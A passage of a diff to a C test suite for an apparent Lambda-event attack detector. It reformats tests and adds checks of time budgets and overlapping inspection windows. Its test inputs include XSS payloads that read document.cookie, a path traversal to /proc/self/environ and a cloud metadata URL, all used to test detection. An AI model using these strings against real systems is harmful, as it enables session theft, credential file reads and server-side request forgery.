@@ -13,6 +13,7 @@
 #include <zlib.h>
 
 #include "json.h"
+#include "pol-private.h"
 #include "pol.h"
 
 static const char *corpora(void)
@@ -54,10 +55,10 @@ static const char *write_tmp(const char *name, const char *text)
 }
 
 static const char marker_policy[] =
-	"{\n"
-	"  \"rules\": [{\"id\": \"test.marker\", \"category\": \"sqli\", \"severity\": \"critical\",\n"
-	"              \"confidence\": 100, \"phrases\": [\"vigilmarker\", \"vigil marker\"]}]\n"
-	"}\n";
+    "{\n"
+    "  \"rules\": [{\"id\": \"test.marker\", \"category\": \"sqli\", \"severity\": \"critical\",\n"
+    "              \"confidence\": 100, \"phrases\": [\"vigilmarker\", \"vigil marker\"]}]\n"
+    "}\n";
 
 static struct pol_engine *marker_engine(enum pol_mode mode)
 {
@@ -95,14 +96,16 @@ static char *b64(const char *s, size_t n)
 	char *o = malloc(n / 3 * 4 + 5), *p = o;
 	size_t i = 0;
 	for (; i + 2 < n; i += 3) {
-		unsigned v = (unsigned char)s[i] << 16 | (unsigned char)s[i + 1] << 8 | (unsigned char)s[i + 2];
+		unsigned v = (unsigned char)s[i] << 16 | (unsigned char)s[i + 1] << 8 |
+		             (unsigned char)s[i + 2];
 		*p++ = t[v >> 18];
 		*p++ = t[v >> 12 & 63];
 		*p++ = t[v >> 6 & 63];
 		*p++ = t[v & 63];
 	}
 	if (i < n) {
-		unsigned v = (unsigned char)s[i] << 16 | (i + 1 < n ? (unsigned char)s[i + 1] << 8 : 0);
+		unsigned v =
+		    (unsigned char)s[i] << 16 | (i + 1 < n ? (unsigned char)s[i + 1] << 8 : 0);
 		*p++ = t[v >> 18];
 		*p++ = t[v >> 12 & 63];
 		*p++ = i + 1 < n ? t[v >> 6 & 63] : '=';
@@ -209,25 +212,26 @@ START_TEST(sources_of_sample_events)
 	static const struct {
 		const char *file, *source;
 	} cases[] = {
-		{"aws-lambda-go/events/testdata/apigw-request.json", "apigw-v1"},
-		{"aws-lambda-go/events/testdata/apigw-v2-request-iam.json", "apigw-v2"},
-		{"aws-lambda-go/events/testdata/lambda-urls-request.json", "function-url"},
-		{"aws-lambda-go/events/testdata/alb-lambda-target-request-headers-only.json", "alb"},
-		{"aws-lambda-go/events/testdata/apigw-custom-auth-request.json", "apigw-authorizer"},
-		{"aws-lambda-go/events/testdata/apigw-v2-custom-authorizer-v2-request.json", "apigw-authorizer"},
-		{"aws-lambda-go/events/testdata/apigw-websocket-request.json", "apigw-websocket"},
-		{"aws-lambda-go/events/testdata/sqs-event.json", "sqs"},
-		{"aws-lambda-go/events/testdata/sns-event.json", "sns"},
-		{"aws-lambda-go/events/testdata/s3-event.json", "s3"},
-		{"aws-lambda-go/events/testdata/dynamodb-event.json", "dynamodb"},
-		{"aws-lambda-go/events/testdata/kinesis-event.json", "kinesis"},
-		{"powertools-lambda-python/tests/events/eventBridgeEvent.json", "eventbridge"},
-		{"aws-lambda-go/events/testdata/cognito-event-userpools-presignup.json", "cognito"},
-		{"powertools-lambda-python/tests/events/appSyncResolverEvent.json", "appsync"},
-		{"powertools-lambda-python/tests/events/appSyncBatchEvent.json", "appsync"},
-		{"aws-lambda-go/events/testdata/kafka-event.json", "msk"},
-		{"aws-lambda-go/events/testdata/cloudwatch-logs-event.json", "cloudwatch-logs"},
-		{"aws-lambda-go/events/testdata/config-event.json", "unknown"},
+	    {"aws-lambda-go/events/testdata/apigw-request.json", "apigw-v1"},
+	    {"aws-lambda-go/events/testdata/apigw-v2-request-iam.json", "apigw-v2"},
+	    {"aws-lambda-go/events/testdata/lambda-urls-request.json", "function-url"},
+	    {"aws-lambda-go/events/testdata/alb-lambda-target-request-headers-only.json", "alb"},
+	    {"aws-lambda-go/events/testdata/apigw-custom-auth-request.json", "apigw-authorizer"},
+	    {"aws-lambda-go/events/testdata/apigw-v2-custom-authorizer-v2-request.json",
+	     "apigw-authorizer"},
+	    {"aws-lambda-go/events/testdata/apigw-websocket-request.json", "apigw-websocket"},
+	    {"aws-lambda-go/events/testdata/sqs-event.json", "sqs"},
+	    {"aws-lambda-go/events/testdata/sns-event.json", "sns"},
+	    {"aws-lambda-go/events/testdata/s3-event.json", "s3"},
+	    {"aws-lambda-go/events/testdata/dynamodb-event.json", "dynamodb"},
+	    {"aws-lambda-go/events/testdata/kinesis-event.json", "kinesis"},
+	    {"powertools-lambda-python/tests/events/eventBridgeEvent.json", "eventbridge"},
+	    {"aws-lambda-go/events/testdata/cognito-event-userpools-presignup.json", "cognito"},
+	    {"powertools-lambda-python/tests/events/appSyncResolverEvent.json", "appsync"},
+	    {"powertools-lambda-python/tests/events/appSyncBatchEvent.json", "appsync"},
+	    {"aws-lambda-go/events/testdata/kafka-event.json", "msk"},
+	    {"aws-lambda-go/events/testdata/cloudwatch-logs-event.json", "cloudwatch-logs"},
+	    {"aws-lambda-go/events/testdata/config-event.json", "unknown"},
 	};
 	struct pol_engine *e;
 	ck_assert_int_eq(pol_engine_new(&e, NULL, 0, POL_MODE_MONITOR, NULL, 0), 0);
@@ -240,8 +244,8 @@ START_TEST(sources_of_sample_events)
 		struct pol_result *r;
 		ck_assert_int_eq(pol_inspect(e, s, n, &r), 0);
 		ck_assert_msg(strcmp(pol_source_name(pol_result_source(r)), cases[i].source) == 0,
-			      "%s: %s, want %s", cases[i].file, pol_source_name(pol_result_source(r)),
-			      cases[i].source);
+		              "%s: %s, want %s", cases[i].file,
+		              pol_source_name(pol_result_source(r)), cases[i].source);
 		ck_assert_int_eq(pol_result_verdict(r), POL_PASS);
 		pol_result_free(r);
 		free(s);
@@ -255,38 +259,45 @@ END_TEST
 START_TEST(extract_http_fields)
 {
 	struct pol_engine *e = marker_engine(POL_MODE_MONITOR);
-	ck_assert_str_eq(marker_path(e, "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
-				     "\"queryStringParameters\":{\"q\":\"a vigilmarker\"}}"),
-			 "queryStringParameters.q");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
+	                   "\"queryStringParameters\":{\"q\":\"a vigilmarker\"}}"),
+	    "queryStringParameters.q");
 	ck_assert_int_eq(found_src, POL_SRC_APIGW_V1);
 	/* multi-value: only values the single map does not already show */
-	ck_assert_str_eq(marker_path(e, "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
-				     "\"queryStringParameters\":{\"q\":\"b\"},"
-				     "\"multiValueQueryStringParameters\":{\"q\":[\"a\",\"vigilmarker\"]}}"),
-			 "multiValueQueryStringParameters.q[1]");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
+	                   "\"queryStringParameters\":{\"q\":\"b\"},"
+	                   "\"multiValueQueryStringParameters\":{\"q\":[\"a\",\"vigilmarker\"]}}"),
+	    "multiValueQueryStringParameters.q[1]");
 	/* a key is an input too */
-	ck_assert_str_eq(marker_path(e, "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
-				     "\"queryStringParameters\":{\"vigilmarker\":\"1\"}}"),
-			 "queryStringParameters.vigilmarker");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
+	                   "\"queryStringParameters\":{\"vigilmarker\":\"1\"}}"),
+	    "queryStringParameters.vigilmarker");
 	/* cookies: the header split into names */
-	ck_assert_str_eq(marker_path(e, "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
-				     "\"headers\":{\"Cookie\":\"a=b; sid=vigil%6darker\"}}"),
-			 "headers.Cookie>sid");
-	ck_assert_str_eq(marker_path(e, "{\"version\":\"2.0\",\"routeKey\":\"$default\",\"rawPath\":\"/\","
-				     "\"cookies\":[\"x=1\",\"y=vigilmarker\"],"
-				     "\"requestContext\":{\"http\":{\"method\":\"GET\"}}}"),
-			 "cookies[1]>y");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
+	                   "\"headers\":{\"Cookie\":\"a=b; sid=vigil%6darker\"}}"),
+	    "headers.Cookie>sid");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"version\":\"2.0\",\"routeKey\":\"$default\",\"rawPath\":\"/\","
+	                   "\"cookies\":[\"x=1\",\"y=vigilmarker\"],"
+	                   "\"requestContext\":{\"http\":{\"method\":\"GET\"}}}"),
+	    "cookies[1]>y");
 	ck_assert_int_eq(found_src, POL_SRC_APIGW_V2);
 	/* ALB leaves the query encoded; the handler decodes it */
-	ck_assert_str_eq(marker_path(e, "{\"httpMethod\":\"GET\",\"path\":\"/\",\"requestContext\":{\"elb\":{}},"
-				     "\"queryStringParameters\":{\"q\":\"vigil%20marker\"}}"),
-			 "queryStringParameters.q");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"httpMethod\":\"GET\",\"path\":\"/\",\"requestContext\":{\"elb\":{}},"
+	                   "\"queryStringParameters\":{\"q\":\"vigil%20marker\"}}"),
+	    "queryStringParameters.q");
 	ck_assert_int_eq(found_src, POL_SRC_ALB);
 	/* the path, percent-decoded */
-	ck_assert_str_eq(marker_path(e, "{\"version\":\"2.0\",\"routeKey\":\"$default\","
-				     "\"rawPath\":\"/files/vigil%6Darker\",\"requestContext\":{"
-				     "\"domainName\":\"abc.lambda-url.us-east-1.on.aws\",\"http\":{}}}"),
-			 "rawPath");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"version\":\"2.0\",\"routeKey\":\"$default\","
+	                   "\"rawPath\":\"/files/vigil%6Darker\",\"requestContext\":{"
+	                   "\"domainName\":\"abc.lambda-url.us-east-1.on.aws\",\"http\":{}}}"),
+	    "rawPath");
 	ck_assert_int_eq(found_src, POL_SRC_FUNCTION_URL);
 	pol_engine_free(e);
 }
@@ -299,27 +310,35 @@ START_TEST(extract_bodies)
 	const char *json = "{\"user\":{\"name\":\"vigilmarker\"}}";
 	char *enc = b64(json, strlen(json));
 	snprintf(ev, sizeof(ev),
-		 "{\"version\":\"2.0\",\"routeKey\":\"POST /\",\"rawPath\":\"/\",\"requestContext\":{\"http\":{}},"
-		 "\"body\":\"%s\",\"isBase64Encoded\":true}", enc);
+	         "{\"version\":\"2.0\",\"routeKey\":\"POST "
+	         "/\",\"rawPath\":\"/\",\"requestContext\":{\"http\":{}},"
+	         "\"body\":\"%s\",\"isBase64Encoded\":true}",
+	         enc);
 	free(enc);
 	ck_assert_str_eq(marker_path(e, ev), "body>$.user.name");
-	ck_assert_str_eq(marker_path(e, "{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
-				     "\"headers\":{\"content-type\":\"application/x-www-form-urlencoded\"},"
-				     "\"body\":\"a=1&name=vigil+marker\"}"),
-			 "body>name");
-	ck_assert_str_eq(marker_path(e, "{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
-				     "\"headers\":{\"Content-Type\":\"multipart/form-data; boundary=XyZ\"},"
-				     "\"body\":\"--XyZ\\r\\nContent-Disposition: form-data; name=\\\"a\\\"\\r\\n\\r\\n"
-				     "hello\\r\\n--XyZ\\r\\nContent-Disposition: form-data; name=\\\"bio\\\"\\r\\n\\r\\n"
-				     "I am vigilmarker\\r\\n--XyZ--\\r\\n\"}"),
-			 "body>bio");
-	ck_assert_str_eq(marker_path(e, "{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
-				     "\"body\":\"[{\\\"a\\\":[\\\"x\\\",\\\"vigilmarker\\\"]}]\"}"),
-			 "body>$[0].a[1]");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
+	                   "\"headers\":{\"content-type\":\"application/x-www-form-urlencoded\"},"
+	                   "\"body\":\"a=1&name=vigil+marker\"}"),
+	    "body>name");
+	ck_assert_str_eq(
+	    marker_path(
+	        e,
+	        "{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
+	        "\"headers\":{\"Content-Type\":\"multipart/form-data; boundary=XyZ\"},"
+	        "\"body\":\"--XyZ\\r\\nContent-Disposition: form-data; name=\\\"a\\\"\\r\\n\\r\\n"
+	        "hello\\r\\n--XyZ\\r\\nContent-Disposition: form-data; name=\\\"bio\\\"\\r\\n\\r\\n"
+	        "I am vigilmarker\\r\\n--XyZ--\\r\\n\"}"),
+	    "body>bio");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
+	                   "\"body\":\"[{\\\"a\\\":[\\\"x\\\",\\\"vigilmarker\\\"]}]\"}"),
+	    "body>$[0].a[1]");
 	/* plain text stays whole */
-	ck_assert_str_eq(marker_path(e, "{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
-				     "\"body\":\"just vigilmarker\"}"),
-			 "body");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
+	                   "\"body\":\"just vigilmarker\"}"),
+	    "body");
 	pol_engine_free(e);
 }
 END_TEST
@@ -329,51 +348,64 @@ START_TEST(extract_queues_and_streams)
 	struct pol_engine *e = marker_engine(POL_MODE_MONITOR);
 	/* SNS inside SQS: JSON in a JSON string in a JSON string */
 	ck_assert_str_eq(
-		marker_path(e, "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"x\"},"
-			       "{\"eventSource\":\"aws:sqs\",\"body\":\"x\"},"
-			       "{\"eventSource\":\"aws:sqs\",\"body\":\"{\\\"Type\\\":\\\"Notification\\\","
-			       "\\\"TopicArn\\\":\\\"arn:aws:sns:x\\\",\\\"Message\\\":\\\"{\\\\\\\"q\\\\\\\":"
-			       "\\\\\\\"vigilmarker\\\\\\\"}\\\"}\"}]}"),
-		"Records[2].body>Message>$.q");
+	    marker_path(
+	        e, "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"x\"},"
+	           "{\"eventSource\":\"aws:sqs\",\"body\":\"x\"},"
+	           "{\"eventSource\":\"aws:sqs\",\"body\":\"{\\\"Type\\\":\\\"Notification\\\","
+	           "\\\"TopicArn\\\":\\\"arn:aws:sns:x\\\",\\\"Message\\\":\\\"{\\\\\\\"q\\\\\\\":"
+	           "\\\\\\\"vigilmarker\\\\\\\"}\\\"}\"}]}"),
+	    "Records[2].body>Message>$.q");
 	ck_assert_int_eq(found_src, POL_SRC_SQS);
-	ck_assert_str_eq(marker_path(e, "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"x\","
-				     "\"messageAttributes\":{\"a\":{\"stringValue\":\"vigilmarker\"}}}]}"),
-			 "Records[0].messageAttributes.a.stringValue");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"x\","
+	                   "\"messageAttributes\":{\"a\":{\"stringValue\":\"vigilmarker\"}}}]}"),
+	    "Records[0].messageAttributes.a.stringValue");
 	ck_assert_str_eq(marker_path(e, "{\"Records\":[{\"EventSource\":\"aws:sns\",\"Sns\":{"
-				     "\"Message\":\"vigilmarker\"}}]}"),
-			 "Records[0].Sns.Message");
+	                                "\"Message\":\"vigilmarker\"}}]}"),
+	                 "Records[0].Sns.Message");
 	/* S3 keys: '+' is a space */
-	ck_assert_str_eq(marker_path(e, "{\"Records\":[{\"eventSource\":\"aws:s3\",\"s3\":{\"object\":{"
-				     "\"key\":\"uploads/vigil+marker.txt\"}}}]}"),
-			 "Records[0].s3.object.key");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"Records\":[{\"eventSource\":\"aws:s3\",\"s3\":{\"object\":{"
+	                   "\"key\":\"uploads/vigil+marker.txt\"}}}]}"),
+	    "Records[0].s3.object.key");
 	/* DynamoDB typed values: type letters are not in the path */
-	ck_assert_str_eq(marker_path(e, "{\"Records\":[{\"eventSource\":\"aws:dynamodb\",\"dynamodb\":{"
-				     "\"NewImage\":{\"doc\":{\"M\":{\"tags\":{\"L\":[{\"S\":\"a\"},"
-				     "{\"S\":\"vigilmarker\"}]}}}}}}]}"),
-			 "Records[0].dynamodb.NewImage.doc.tags[1]");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"Records\":[{\"eventSource\":\"aws:dynamodb\",\"dynamodb\":{"
+	                   "\"NewImage\":{\"doc\":{\"M\":{\"tags\":{\"L\":[{\"S\":\"a\"},"
+	                   "{\"S\":\"vigilmarker\"}]}}}}}}]}"),
+	    "Records[0].dynamodb.NewImage.doc.tags[1]");
 	char ev[4096];
 	const char *doc = "{\"q\":\"vigilmarker\"}";
 	char *enc = b64(doc, strlen(doc));
-	snprintf(ev, sizeof(ev), "{\"Records\":[{\"eventSource\":\"aws:kinesis\",\"kinesis\":{\"data\":\"%s\"}}]}",
-		 enc);
+	snprintf(ev, sizeof(ev),
+	         "{\"Records\":[{\"eventSource\":\"aws:kinesis\",\"kinesis\":{\"data\":\"%s\"}}]}",
+	         enc);
 	ck_assert_str_eq(marker_path(e, ev), "Records[0].kinesis.data>$.q");
 	snprintf(ev, sizeof(ev),
-		 "{\"eventSource\":\"aws:kafka\",\"records\":{\"t-0\":[{\"key\":\"eA==\",\"value\":\"%s\"}]}}", enc);
+	         "{\"eventSource\":\"aws:kafka\",\"records\":{\"t-0\":[{\"key\":\"eA==\",\"value\":"
+	         "\"%s\"}]}}",
+	         enc);
 	ck_assert_str_eq(marker_path(e, ev), "records.t-0[0].value>$.q");
 	ck_assert_int_eq(found_src, POL_SRC_MSK);
 	free(enc);
 	enc = gzip_b64("{\"logGroup\":\"g\",\"logEvents\":[{\"id\":\"1\",\"message\":\"ok\"},"
-		       "{\"id\":\"2\",\"message\":\"GET /?q=vigilmarker\"}]}");
+	               "{\"id\":\"2\",\"message\":\"GET /?q=vigilmarker\"}]}");
 	snprintf(ev, sizeof(ev), "{\"awslogs\":{\"data\":\"%s\"}}", enc);
 	free(enc);
 	ck_assert_str_eq(marker_path(e, ev), "awslogs.data>logEvents[1].message");
-	ck_assert_str_eq(marker_path(e, "{\"source\":\"app\",\"detail-type\":\"x\",\"detail\":{\"a\":[\"vigilmarker\"]}}"),
-			 "detail.a[0]");
-	ck_assert_str_eq(marker_path(e, "{\"triggerSource\":\"PreSignUp_SignUp\",\"userPoolId\":\"p\","
-				     "\"request\":{\"userAttributes\":{\"name\":\"vigilmarker\"}}}"),
-			 "request.userAttributes.name");
-	ck_assert_str_eq(marker_path(e, "{\"arguments\":{\"id\":\"vigilmarker\"},\"info\":{\"fieldName\":\"f\"}}"),
-			 "arguments.id");
+	ck_assert_str_eq(
+	    marker_path(
+	        e,
+	        "{\"source\":\"app\",\"detail-type\":\"x\",\"detail\":{\"a\":[\"vigilmarker\"]}}"),
+	    "detail.a[0]");
+	ck_assert_str_eq(
+	    marker_path(e, "{\"triggerSource\":\"PreSignUp_SignUp\",\"userPoolId\":\"p\","
+	                   "\"request\":{\"userAttributes\":{\"name\":\"vigilmarker\"}}}"),
+	    "request.userAttributes.name");
+	ck_assert_str_eq(
+	    marker_path(e,
+	                "{\"arguments\":{\"id\":\"vigilmarker\"},\"info\":{\"fieldName\":\"f\"}}"),
+	    "arguments.id");
 	ck_assert_int_eq(found_src, POL_SRC_APPSYNC);
 	/* unknown: every string and key */
 	ck_assert_str_eq(marker_path(e, "{\"a\":{\"b\":[0,{\"c\":\"vigilmarker\"}]}}"), "a.b[1].c");
@@ -411,7 +443,8 @@ START_TEST(limits_are_reported_and_inspection_goes_on)
 	pol_engine_free(e);
 
 	/* a limit alone flags the event but never blocks it */
-	const char *p = write_tmp("small.json", "{\"limits\":{\"event_bytes\":1024,\"strings\":3}}");
+	const char *p =
+	    write_tmp("small.json", "{\"limits\":{\"event_bytes\":1024,\"strings\":3}}");
 	char err[256];
 	ck_assert_int_eq(pol_engine_new(&e, &p, 1, POL_MODE_BLOCK, err, sizeof(err)), 0);
 	char big[2048];
@@ -427,8 +460,9 @@ START_TEST(limits_are_reported_and_inspection_goes_on)
 	/* too many values for a tree: reported, and the raw text still seen */
 	/* write_tmp reuses its buffer: keep each path */
 	char *pp[] = {strdup(write_tmp("marker2.json", marker_policy)),
-		      strdup(write_tmp("nodes.json", "{\"limits\":{\"nodes\":1000}}"))};
-	ck_assert_int_eq(pol_engine_new(&e, (const char *const *)pp, 2, POL_MODE_BLOCK, err, sizeof(err)), 0);
+	              strdup(write_tmp("nodes.json", "{\"limits\":{\"nodes\":1000}}"))};
+	ck_assert_int_eq(
+	    pol_engine_new(&e, (const char *const *)pp, 2, POL_MODE_BLOCK, err, sizeof(err)), 0);
 	free(pp[0]);
 	free(pp[1]);
 	struct vg_buf many = VG_BUF_INIT(1 << 20);
@@ -463,6 +497,132 @@ START_TEST(limits_are_reported_and_inspection_goes_on)
 }
 END_TEST
 
+/* ---- the budget on long inputs ---- */
+
+static const struct pol_finding *find_cat(const struct pol_result *r, enum pol_category c)
+{
+	for (size_t i = 0; i < pol_result_count(r); i++)
+		if (pol_result_finding(r, i)->category == c)
+			return pol_result_finding(r, i);
+	return NULL;
+}
+
+/* Appends n bytes of benign prose, different at every place (a fixed
+ * pseudo-random walk over plain words), so that nothing repeats. */
+static void put_prose(struct vg_buf *b, size_t n, uint32_t seed)
+{
+	static const char *const words[] = {
+	    "river",  "stone", "garden",  "morning", "light",  "paper",  "window", "quiet",
+	    "yellow", "bread", "harbour", "letter",  "winter", "candle", "meadow", "tower",
+	};
+	size_t start = b->len;
+	uint32_t x = seed | 1;
+	while (b->len - start < n) {
+		x ^= x << 13;
+		x ^= x >> 17;
+		x ^= x << 5;
+		ck_assert_int_eq(vg_buf_puts(b, words[x & 15]), 0);
+		ck_assert_int_eq(vg_buf_puts(b, (x >> 8) % 11 ? " " : ". "), 0);
+	}
+	b->len = start + n;
+	b->data[b->len - 1] = ' ';
+}
+
+static void http_event(struct vg_buf *ev, const char *head, size_t prose, const char *mid,
+                       size_t prose2, const char *tail)
+{
+	vg_buf_puts(ev, "{\"version\":\"2.0\",\"routeKey\":\"POST /notes\",\"rawPath\":\"/notes\","
+	                "\"rawQueryString\":\"\",\"headers\":{\"content-type\":\"text/plain\"},"
+	                "\"requestContext\":{\"http\":{\"method\":\"POST\",\"path\":\"/notes\"}},"
+	                "\"isBase64Encoded\":false,\"body\":\"");
+	vg_buf_puts(ev, head);
+	put_prose(ev, prose, 7);
+	vg_buf_puts(ev, mid);
+	put_prose(ev, prose2, 11);
+	vg_buf_puts(ev, tail);
+	ck_assert_int_eq(vg_buf_puts(ev, "\"}"), 0);
+}
+
+/* One string of 1 MB, then 6 MB (Lambda's whole synchronous payload), under
+ * the smallest budget a policy may set: the detectors see the string's
+ * first window, then the clock stops them. The event passes, flagged, with
+ * what was found so far; the attack at the far end is never reached. */
+START_TEST(budget_holds_on_one_long_string)
+{
+	const char *p = write_tmp("tiny.json", "{\"limits\":{\"budget_us\":10}}");
+	char err[256];
+	struct pol_engine *e;
+	ck_assert_int_eq(pol_engine_new(&e, &p, 1, POL_MODE_BLOCK, err, sizeof(err)), 0);
+	static const size_t sizes[] = {1u << 20, 6u << 20};
+	for (size_t k = 0; k < 2; k++) {
+		struct vg_buf ev = VG_BUF_INIT(8u << 20);
+		http_event(&ev, "<script>alert(1)</script> ", sizes[k], "", 0,
+		           " ../../../../../proc/self/environ");
+		struct pol_result *r;
+		ck_assert_int_eq(pol_inspect(e, ev.data, ev.len, &r), 0);
+		ck_assert(pol_result_budget_exhausted(r));
+		ck_assert(has_rule(r, "limit.time_budget"));
+		const struct pol_finding *x = find_cat(r, POL_CAT_XSS);
+		ck_assert_ptr_nonnull(x);
+		ck_assert_str_eq(x->path, "body");
+		ck_assert_ptr_nonnull(strstr(x->excerpt, "<script>"));
+		ck_assert_ptr_null(find_cat(r, POL_CAT_PATH_TRAVERSAL));
+		pol_result_free(r);
+		vg_buf_fini(&ev);
+	}
+	pol_engine_free(e);
+}
+END_TEST
+
+/* Long inputs are judged in overlapping windows: an attack placed across a
+ * window's end is still found, with its excerpt taken from the whole
+ * input; and one at the far end of a long string is found when the budget
+ * allows the whole string. */
+START_TEST(detection_straddles_window_boundary)
+{
+	static const char *const attacks[] = {
+	    "<script>alert(document.cookie)</script>",
+	    "<img src=x onerror=alert(1)>",
+	};
+	struct pol_engine *e;
+	char err[256];
+	ck_assert_int_eq(pol_engine_new(&e, NULL, 0, POL_MODE_BLOCK, err, sizeof(err)), 0);
+	for (size_t a = 0; a < 2; a++) {
+		size_t alen = strlen(attacks[a]);
+		for (size_t at = POL_WIN_BYTES - alen - 1; at <= POL_WIN_BYTES + 1; at++) {
+			struct vg_buf ev = VG_BUF_INIT(1u << 20);
+			/* the body starts 0 bytes into the input: "at" is its offset */
+			http_event(&ev, "", at, attacks[a], POL_WIN_BYTES, "");
+			struct pol_result *r;
+			ck_assert_int_eq(pol_inspect(e, ev.data, ev.len, &r), 0);
+			const struct pol_finding *x = find_cat(r, POL_CAT_XSS);
+			ck_assert_msg(x != NULL, "attack %zu at %zu not found", a, at);
+			ck_assert_msg(strstr(x->excerpt, a ? "onerror" : "<script>"),
+			              "excerpt '%s' misplaced", x->excerpt);
+			ck_assert(!pol_result_budget_exhausted(r));
+			pol_result_free(r);
+			vg_buf_fini(&ev);
+		}
+	}
+	pol_engine_free(e);
+
+	/* the far end of a 1 MB string, with a budget lifted for the test */
+	const char *p = write_tmp("slow.json", "{\"limits\":{\"budget_us\":10000000}}");
+	ck_assert_int_eq(pol_engine_new(&e, &p, 1, POL_MODE_BLOCK, err, sizeof(err)), 0);
+	struct vg_buf ev = VG_BUF_INIT(2u << 20);
+	http_event(&ev, "", 1u << 20, "<svg onload=alert(1)>", 100, "");
+	struct pol_result *r;
+	ck_assert_int_eq(pol_inspect(e, ev.data, ev.len, &r), 0);
+	const struct pol_finding *x = find_cat(r, POL_CAT_XSS);
+	ck_assert_ptr_nonnull(x);
+	ck_assert_ptr_nonnull(strstr(x->excerpt, "onload"));
+	ck_assert(!pol_result_budget_exhausted(r));
+	pol_result_free(r);
+	vg_buf_fini(&ev);
+	pol_engine_free(e);
+}
+END_TEST
+
 START_TEST(malformed_event_is_an_error_verdict)
 {
 	struct pol_engine *e;
@@ -478,7 +638,8 @@ END_TEST
 
 /* ---- verdicts and block responses ---- */
 
-static const char *block_doc(const struct pol_engine *e, const char *ev, int *http, const char **type)
+static const char *block_doc(const struct pol_engine *e, const char *ev, int *http,
+                             const char **type)
 {
 	static char out[1024];
 	struct pol_result *r;
@@ -502,21 +663,29 @@ START_TEST(block_responses_per_source)
 	struct pol_engine *e = marker_engine(POL_MODE_BLOCK);
 	int http;
 	const char *type;
-	const char *d = block_doc(e, "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
-				  "\"queryStringParameters\":{\"q\":\"vigilmarker\"}}", &http, &type);
+	const char *d =
+	    block_doc(e,
+	              "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
+	              "\"queryStringParameters\":{\"q\":\"vigilmarker\"}}",
+	              &http, &type);
 	ck_assert_int_eq(http, 1);
 	ck_assert_ptr_null(type);
 	ck_assert_ptr_nonnull(strstr(d, "\"statusCode\":403"));
-	d = block_doc(e, "{\"httpMethod\":\"GET\",\"path\":\"/\",\"requestContext\":{\"elb\":{}},"
-		      "\"multiValueHeaders\":{},\"queryStringParameters\":{\"q\":\"vigilmarker\"}}", &http, &type);
+	d = block_doc(e,
+	              "{\"httpMethod\":\"GET\",\"path\":\"/\",\"requestContext\":{\"elb\":{}},"
+	              "\"multiValueHeaders\":{},\"queryStringParameters\":{\"q\":\"vigilmarker\"}}",
+	              &http, &type);
 	ck_assert_ptr_nonnull(strstr(d, "\"statusDescription\":\"403 Forbidden\""));
 	ck_assert_ptr_nonnull(strstr(d, "\"multiValueHeaders\""));
-	d = block_doc(e, "{\"type\":\"TOKEN\",\"authorizationToken\":\"vigilmarker\","
-		      "\"methodArn\":\"arn:aws:execute-api:r:1:a/s/GET/\"}", &http, &type);
+	d = block_doc(e,
+	              "{\"type\":\"TOKEN\",\"authorizationToken\":\"vigilmarker\","
+	              "\"methodArn\":\"arn:aws:execute-api:r:1:a/s/GET/\"}",
+	              &http, &type);
 	ck_assert_int_eq(http, 1);
 	ck_assert_ptr_nonnull(strstr(d, "\"Effect\":\"Deny\""));
 	ck_assert_ptr_nonnull(strstr(d, "arn:aws:execute-api:r:1:a/s/GET/"));
-	d = block_doc(e, "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"vigilmarker\"}]}", &http, &type);
+	d = block_doc(e, "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"vigilmarker\"}]}",
+	              &http, &type);
 	ck_assert_int_eq(http, 0);
 	ck_assert_str_eq(type, "Vigil.Blocked");
 	ck_assert_ptr_nonnull(strstr(d, "\"errorType\":\"Vigil.Blocked\""));
@@ -539,15 +708,17 @@ END_TEST
 START_TEST(excerpts_are_redacted)
 {
 	struct pol_engine *e = marker_engine(POL_MODE_MONITOR);
-	const char *ev = "{\"a\":\"vigilmarker key=eyJhbGciOiJIUzI1NiJ9abc123def456 card 4111111111111111 "
-			 "http://169.254.169.254/latest/meta-data/\"}";
+	const char *ev =
+	    "{\"a\":\"vigilmarker key=eyJhbGciOiJIUzI1NiJ9abc123def456 card 4111111111111111 "
+	    "http://169.254.169.254/latest/meta-data/\"}";
 	struct pol_result *r;
 	ck_assert_int_eq(pol_inspect(e, ev, strlen(ev), &r), 0);
 	ck_assert_uint_ge(pol_result_count(r), 1);
 	const char *x = pol_result_finding(r, 0)->excerpt;
-	ck_assert_msg(strstr(x, "key=****") && !strstr(x, "4111111111111111") && strstr(x, "************1111") &&
